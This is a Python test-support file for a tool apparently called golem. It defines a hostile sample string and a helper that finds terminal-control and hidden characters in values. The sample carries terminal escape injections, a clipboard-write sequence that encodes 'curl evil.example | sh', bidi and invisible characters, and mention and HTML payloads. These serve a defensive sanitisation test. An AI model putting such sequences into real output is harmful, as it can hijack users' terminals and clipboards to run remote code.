"""The hostile string a forge hands golem, and how a test acts as the forge's user."""

from __future__ import annotations

import unicodedata
from typing import Any

from pydantic import BaseModel

HOSTILE = (
    "build \x1b]8;;https://evil.example\x07click\x1b]8;;\x07"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x1b[1A\x9b31m\x9d0;owned\x9c"
    "\u202eevil\u202c\u2066hidden\u2069\u200b\u2060\ufeff\U000e0041\U000e0042 "
    "@everyone @admin #1 `x` | y [z](https://evil.example) <img src=x> done"
)
"""A forge string as an attacker writes it."""


def acting(value: Any, where: str = "") -> list[tuple[str, str]]:
    """Every character in ``value``'s strings that a terminal could act on or that hides
    text (control, format and surrogate characters but newline, tab and the joiners)."""
    if isinstance(value, BaseModel):
        return acting(value.model_dump(), where)
    if isinstance(value, dict):
        pairs = value.items()
        return [hit for k, v in pairs for hit in [*acting(k, where), *acting(v, f"{where}.{k}")]]
    if isinstance(value, list | tuple):
        return [hit for n, v in enumerate(value) for hit in acting(v, f"{where}[{n}]")]
    if not isinstance(value, str):
        return []
    return [
        (where, f"U+{ord(c):04X}")
        for c in value
        if unicodedata.category(c) in ("Cc", "Cf", "Cs") and c not in "\n\t\u200c\u200d"
    ]
